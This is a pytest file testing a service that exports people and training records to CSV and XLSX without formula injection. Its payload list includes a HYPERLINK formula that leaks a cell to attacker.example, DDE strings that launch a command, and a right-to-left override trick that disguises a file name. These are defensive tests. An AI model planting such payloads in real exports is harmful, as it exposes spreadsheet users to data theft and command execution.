"""Exports open safely in spreadsheet programs: no cell runs as a formula, every script reads."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from app.services.exports import neutralise, to_csv, to_xlsx

BOM = b"\xef\xbb\xbf"
HEADERS = ["Name", "Service number", "Due on"]
# One payload per prefix a spreadsheet may take as the start of a formula.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\0=1+2",
]
NAMES = ["أمينة الحسن", "Алексей Смирнов", "王小明"]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[len(BOM) :].decode("utf-8"), newline="")))


def read_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def unquoted(text: str) -> str:
    return text.replace("'", "")


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_neutralise_prefixes_text_that_could_run_as_a_formula(payload):
    safe = neutralise(payload)
    assert safe.startswith("'")
    assert unquoted(safe) == unquoted(payload)


@pytest.mark.parametrize(
    "value", ["Amina Diallo", "UNIT-A", "", -5, -2.5, 0, date(2025, 3, 1), None, True]
)
def test_neutralise_leaves_plain_text_numbers_and_dates_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_csv_cells_never_start_a_formula(payload):
    rows = read_csv(to_csv(HEADERS, [[payload, "SN-1", date(2025, 3, 1)]]))
    assert rows[1][0] == neutralise(payload)
    assert rows[1][0].startswith("'")


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_xlsx_cells_are_text_never_formulas_and_show_no_apostrophe(payload):
    data = to_xlsx(HEADERS, [[payload, "SN-1", date(2025, 3, 1)]], "People")
    cell = read_xlsx(data)["A2"]
    # XML cannot carry NUL and reads a carriage return back as a line feed.
    assert cell.value == payload.replace("\0", "").replace("\r", "\n")
    assert cell.data_type == "s"
    assert "<f>" not in sheet_xml(data)


def test_xlsx_text_cell_shows_exactly_what_was_typed():
    cell = read_xlsx(to_xlsx(HEADERS, [["+1+1", "", ""]], "People"))["A2"]
    assert cell.value == "+1+1"
    assert cell.data_type == "s"


def test_xlsx_headers_are_text_too():
    data = to_xlsx(["=cmd()", "Name"], [["x", "y"]], "People")
    assert read_xlsx(data)["A1"].value == "=cmd()"
    assert "<f>" not in sheet_xml(data)


def test_control_character_removed_from_xlsx_leaves_text_not_a_formula():
    data = to_xlsx(HEADERS, [["\x01=1+2", "", ""]], "People")
    cell = read_xlsx(data)["A2"]
    assert cell.value == "=1+2"
    assert cell.data_type == "s"
    assert "<f>" not in sheet_xml(data)


def test_csv_quotes_every_text_field():
    data = to_csv(HEADERS, [["Amina", "SN-1", date(2025, 3, 1)]])
    assert data[len(BOM) :].split(b"\r\n")[1] == b'"Amina","SN-1","2025-03-01"'


@pytest.mark.parametrize("separator", [";", ",", "\t"], ids=repr)
def test_name_with_separators_cannot_start_a_formula_in_any_cell(separator):
    name = f"Semi{separator}=40+2{separator}@SUM(1){separator}-3"
    data = to_csv(["Name"], [[name]])
    line = data[len(BOM) :].decode("utf-8").split("\r\n")[1]
    # A program that splits on this separator, quotes or not, starts each cell with text.
    for piece in line.strip('"').split(separator):
        assert not piece.startswith(("=", "+", "-", "@")), piece
    assert read_csv(data)[1] == [f"Semi{separator}'=40+2{separator}'@SUM(1){separator}'-3"]


@pytest.mark.parametrize("sign", ["\uff1d", "\uff0b", "\uff0d", "\uff20"], ids=repr)
def test_fullwidth_formula_signs_are_neutralised_like_ascii(sign):
    assert read_csv(to_csv(["Name"], [[f"{sign}40+2"]]))[1] == [f"'{sign}40+2"]


def test_bidirectional_controls_are_removed_from_names():
    # U+202E makes "Amina exe.txt" display reversed; isolates hide text the same way.
    name = "Amina\u202etxt.exe\u202c \u2066Diallo\u2069\u202a\u202b\u202d\u2067\u2068"
    assert read_csv(to_csv(["Name"], [[name]]))[1] == ["Aminatxt.exe Diallo"]
    assert read_xlsx(to_xlsx(["Name"], [[name]], "People"))["A2"].value == "Aminatxt.exe Diallo"


def test_xlsx_text_like_an_error_code_stays_text():
    cell = read_xlsx(to_xlsx(HEADERS, [["#N/A", "", ""]], "People"))["A2"]
    assert cell.value == "#N/A"
    assert cell.data_type == "s"


def test_negative_numbers_stay_numbers():
    rows = [["Amina", -5, -2.5]]
    assert read_csv(to_csv(HEADERS, rows))[1] == ["Amina", "-5", "-2.5"]
    sheet = read_xlsx(to_xlsx(HEADERS, rows, "People"))
    assert (sheet["B2"].value, sheet["C2"].value) == (-5, -2.5)
    assert sheet["B2"].data_type == "n"


def test_names_in_any_script_round_trip():
    rows = [[name, f"SN-{index}", None] for index, name in enumerate(NAMES)]
    assert [row[0] for row in read_csv(to_csv(HEADERS, rows))[1:]] == NAMES
    sheet = read_xlsx(to_xlsx(HEADERS, rows, "People"))
    assert [sheet.cell(row=index + 2, column=1).value for index in range(3)] == NAMES


def test_csv_has_bom_crlf_and_header_row():
    data = to_csv(HEADERS, [["Amina", "SN-1", date(2025, 3, 1)], ["Ben", "SN-2", None]])
    assert data.startswith(BOM)
    assert data.count(b"\r\n") == 3
    assert data.count(b"\n") == 3
    assert read_csv(data) == [HEADERS, ["Amina", "SN-1", "2025-03-01"], ["Ben", "SN-2", ""]]


def test_csv_writes_timestamps_in_utc():
    moment = datetime(2025, 3, 1, 8, 30, tzinfo=UTC)
    assert read_csv(to_csv(["At"], [[moment]]))[1] == ["2025-03-01 08:30:00"]


def test_xlsx_header_is_bold_and_frozen_and_dates_are_dates():
    rows = [["Amina Diallo-Traoré of the Second Battalion", "SN-1", date(2025, 3, 1)]]
    sheet = read_xlsx(to_xlsx(HEADERS, rows, "People"))
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet["C2"].is_date and sheet["C2"].value == datetime(2025, 3, 1)
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["B"].width


def test_xlsx_writes_every_row_of_a_long_stream():
    rows = ([f"Person {n}", f"SN-{n}", date(2025, 1, 1)] for n in range(1000))
    sheet = read_xlsx(to_xlsx(HEADERS, rows, "People"))
    assert sheet.max_row == 1001
    assert sheet["A1001"].value == "Person 999"


def test_xlsx_sheet_named_after_anything_opens():
    sheet = read_xlsx(
        to_xlsx(HEADERS, [], "Overdue: Unit A/B [2025] * and more than 31 characters")
    )
    assert sheet.title == "Overdue Unit A B 2025 and more"
    assert [cell.value for cell in sheet[1]] == HEADERS


def test_exports_no_longer_count_a_revoked_module_as_complete(
    client, db, modules, unit, make_user, login
):
    from app.models import Role
    from app.services import certificates
    from tests.fixtures import pass_module

    coordinator = make_user(Role.COORDINATOR, assigned_units=[unit])
    person = make_user(full_name="Amina Haddad")
    certificate = pass_module(person, "basics")
    login(coordinator)

    def basics_rows():
        people = read_csv(client.get("/coordinator/export/people.csv").data)
        matrix = read_csv(client.get("/coordinator/export/matrix.csv").data)
        mine = [r for r in people if r[0] == "Amina Haddad" and r[4] == "Conduct basics"]
        [unit_basics] = [r for r in matrix if r[0] == unit.name and r[2] == "Conduct basics"]
        return [row[5] for row in mine], unit_basics[5]

    assert basics_rows() == (["complete"], "1")
    certificates.revoke(certificate, coordinator, "Misconduct finding, case 2026-114.")
    db.session.commit()
    assert basics_rows() == (["in_progress"], "0")
